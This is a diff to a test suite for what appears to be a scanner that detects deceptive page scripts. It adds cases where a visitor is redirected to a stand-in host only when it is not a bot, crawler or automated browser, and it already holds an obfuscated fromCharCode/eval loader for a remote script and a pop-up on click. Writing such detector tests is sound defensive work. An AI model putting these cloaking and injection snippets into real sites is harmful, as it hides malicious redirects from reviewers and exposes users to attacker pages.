@@ -47,6 +47,12 @@ describe("what scripts do behind visitors' backs", () => {
       `eval(String.fromCharCode(${[..."s=createElement('script');s.src='https://there.org/a.js'"].map((one) => one.charCodeAt(0))}))`,
     ],
     ["any press", "document.addEventListener('click', () => { window.open('https://hot.there.org/?z=1') })"],
+    ["people alone", "if(!/bot/i.test(navigator.userAgent)){window.location.replace('https://there.org/')}"],
+    [
+      "people alone, after robots were let go",
+      "if(/crawl|spider|googlebot/i.test(navigator.userAgent)) return; location.href='https://there.org/x'",
+    ],
+    ["who is not driven by a program", "if(!navigator.webdriver){location='https://there.org/a?b'}"],
     ["leave for notices", "Notification.requestPermission();location='https://there.org/a'"],
   ])("%s", (_, script) => {
     expect(readTraps(script, here)).toEqual([expect.stringMatching(/ there\.org$/)]);
@@ -169,6 +175,11 @@ describe("what comes in place of a page", () => {
     expect(sent(script.replace("there.org", "m.here.org"))).toEqual([]);
     expect(sent(script.replace("there.org/a", "play.google.com/store/apps"))).toEqual([]);
     expect(sent("if(/MSIE/.test(navigator.userAgent)){location='https://there.org/a'}")).toEqual([]);
+  });
+
+  it("does not ask about a script that counts people, on a page with a button to elsewhere", () => {
+    const counted = "if(!/bot/i.test(navigator.userAgent)){count(location.href)}";
+    expect(sent(`${counted} give.onclick=()=>{location='https://there.org/'}`)).toEqual([]);
   });
 
   it("asks about a title that only people are shown, and not about one in their language", () => {
